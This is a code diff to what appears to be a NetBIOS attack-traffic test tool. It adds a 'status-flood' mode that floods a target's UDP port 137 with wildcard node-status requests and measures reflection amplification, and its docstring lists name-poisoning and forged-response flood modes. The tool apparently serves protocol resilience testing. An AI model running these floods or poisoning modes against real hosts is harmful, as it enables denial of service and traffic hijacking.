@@ -14,6 +14,9 @@ Each mode prints one-line progress and a final "result ..." line that the test p
       Responder-style: answers every NAME QUERY REQUEST with OWN, counts what then comes to TCP 139 and UDP 138.
   negative-flood TARGET NAME --suffixes 00,20 --seconds S [--rate PPS]
       NEGATIVE NAME REGISTRATION RESPONSEs (ACT_ERR) with random TRN_IDs for the names, to TARGET:137.
+  status-flood TARGET --seconds S [--rate PPS]
+      NODE STATUS REQUESTs (50 bytes) to TARGET:137 from one source; counts the bytes sent and received back
+      (what a spoofed victim would get: the amplification).
 """
 import argparse, os, random, resource, select, signal, socket, struct, sys, threading, time
 
@@ -218,6 +221,44 @@ def negative_flood(a):
     say('result sent %d' % sent)
 
 
+def status_flood(a):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.setblocking(False)
+    wildcard = bytes([32]) + bytes([0x43, 0x4B]) + b'A' * 30 + b'\x00'  # '*' then 15 NULs
+    deadline = time.monotonic() + a.seconds
+    sent = bytes_out = received = bytes_in = 0
+    interval = 1.0 / a.rate
+    next_at = time.monotonic()
+    while time.monotonic() < deadline and sent < a.rate * a.seconds:
+        packet = struct.pack('>HHHHHH', random.randrange(65536), 0x0000, 1, 0, 0, 0) + wildcard + struct.pack('>HH', 0x21, 1)
+        try:
+            s.sendto(packet, (a.target, 137))
+            sent += 1
+            bytes_out += len(packet)
+        except OSError:
+            pass
+        while True:
+            try:
+                data = s.recv(2048)
+            except (BlockingIOError, OSError):
+                break
+            received += 1
+            bytes_in += len(data)
+        next_at += interval
+        delay = next_at - time.monotonic()
+        if delay > 0:
+            time.sleep(delay)
+    end = time.monotonic() + 1.0
+    while time.monotonic() < end:
+        try:
+            data = s.recv(2048)
+            received += 1
+            bytes_in += len(data)
+        except (BlockingIOError, OSError):
+            time.sleep(0.01)
+    say('result sent %d bytes_out %d received %d bytes_in %d' % (sent, bytes_out, received, bytes_in))
+
+
 def main():
     p = argparse.ArgumentParser()
     sub = p.add_subparsers(dest='mode', required=True)
@@ -238,6 +279,9 @@ def main():
     q.add_argument('target'); q.add_argument('name'); q.add_argument('--suffixes', default='00,03,20')
     q.add_argument('--claim', default='10.0.0.66'); q.add_argument('--seconds', type=float, default=10); q.add_argument('--rate', type=float, default=2000)
     q.set_defaults(run=negative_flood)
+    q = sub.add_parser('status-flood')
+    q.add_argument('target'); q.add_argument('--seconds', type=float, default=5); q.add_argument('--rate', type=float, default=1000)
+    q.set_defaults(run=status_flood)
     a = p.parse_args()
     a.run(a)
 
